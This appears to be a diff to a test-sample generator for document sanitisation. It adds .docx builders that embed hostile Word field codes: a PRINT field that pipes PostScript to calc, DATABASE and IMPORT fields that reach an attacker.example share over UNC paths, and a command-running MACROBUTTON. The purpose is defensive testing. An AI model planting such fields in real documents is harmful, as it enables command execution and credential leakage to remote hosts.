@@ -1023,3 +1023,45 @@ def docx_embedded_font(work: Path) -> bytes:
     embed = '<w:font w:name="Evil"><w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'
     package.put("word/fontTable.xml", table.replace("</w:fonts>", embed + "</w:fonts>"))
     return package.bytes()
+
+
+# ---------------------------------------------------------------- seventh round: fields a keep-list might let through
+@sample(
+    "docx_print_field_postscript",
+    ".docx",
+    "remote-field",
+    "§17.16.5.49 PRINT: printer escapes / PostScript sent to the printer",
+)
+def docx_print_field_postscript(work: Path) -> bytes:
+    return _word_with(_simple_field('PRINT \\p page "(%pipe%calc) (w) file"'))
+
+
+@sample(
+    "docx_database_field",
+    ".docx",
+    "remote-field",
+    "§17.16.5.12 DATABASE: an ODBC query against a workbook on a share",
+)
+def docx_database_field(work: Path) -> bytes:
+    return _word_with(
+        _complex_field(
+            [
+                'DATABASE \\d "\\\\\\\\attacker.example\\\\s\\\\db.xlsx" \\c "DSN=Excel Files;DBQ=x" \\s "SELECT 1" \\h'
+            ]
+        )
+    )
+
+
+@sample(
+    "docx_macrobutton_builtin",
+    ".docx",
+    "remote-field",
+    "§17.16.5.39 MACROBUTTON: double-click runs a command",
+)
+def docx_macrobutton_builtin(work: Path) -> bytes:
+    return _word_with(_simple_field("MACROBUTTON FileOpenFile ここをダブルクリック"))
+
+
+@sample("docx_import_field", ".docx", "remote-field", "IMPORT (legacy INCLUDEPICTURE) from a share")
+def docx_import_field(work: Path) -> bytes:
+    return _word_with(_simple_field('IMPORT "\\\\\\\\attacker.example\\\\s\\\\p.png"'))
